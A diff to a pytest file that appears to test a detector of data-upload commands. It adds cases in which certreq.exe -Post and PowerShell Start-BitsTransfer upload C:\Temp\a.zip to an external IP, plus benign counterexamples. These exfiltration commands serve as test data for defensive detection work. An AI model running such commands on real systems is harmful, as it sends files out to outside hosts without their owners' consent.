@@ -218,6 +218,19 @@ def test_encryption(cmd: str, encrypts: bool) -> None:
         ("oras push localhost:5000/blob:1 /tmp/x.tgz", "oras", "localhost", True),
         ("git push https://github.com/someone/loot.git main", "git push", "github.com", False),
         ("git push git@gitlab.com:someone/loot.git", "git push", "gitlab.com", False),
+        (
+            "certreq.exe -Post -config https://198.51.100.7/ C:\\Temp\\a.zip out.txt",
+            "certreq",
+            "198.51.100.7",
+            False,
+        ),
+        (
+            'powershell -c "Start-BitsTransfer -TransferType Upload -Source C:\\Temp\\a.zip '
+            '-Destination https://198.51.100.7/u"',
+            "Start-BitsTransfer",
+            "198.51.100.7",
+            False,
+        ),
     ],
 )
 def test_uploads(cmd: str, tool: str, where: str, internal: bool) -> None:
@@ -242,6 +255,8 @@ def test_uploads(cmd: str, tool: str, where: str, internal: bool) -> None:
         "git pull https://github.com/org/repo.git",
         "s3cmd get s3://bucket/x /tmp/x",
         "oras pull ghcr.io/org/blob:1",
+        "certreq -Submit -config CA01\\corp-CA req.csr cert.cer",
+        'powershell -c "Start-BitsTransfer -Source https://example.com/a.msi -Destination a.msi"',
         "python3 -c 'import requests; print(requests.get(\"https://example.com\").text)'",
         "node -e 'fetch(\"https://example.com\").then(r => r.text())'",
     ],
